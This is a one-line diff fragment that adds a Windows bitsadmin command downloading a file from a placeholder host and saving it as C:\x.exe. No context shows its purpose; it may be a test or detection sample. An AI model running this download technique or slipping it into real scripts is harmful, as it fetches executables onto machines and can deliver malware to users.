@@ -1,0 +1,1 @@
+bitsadmin /transfer j /download http://a.example/x C:\x.exe
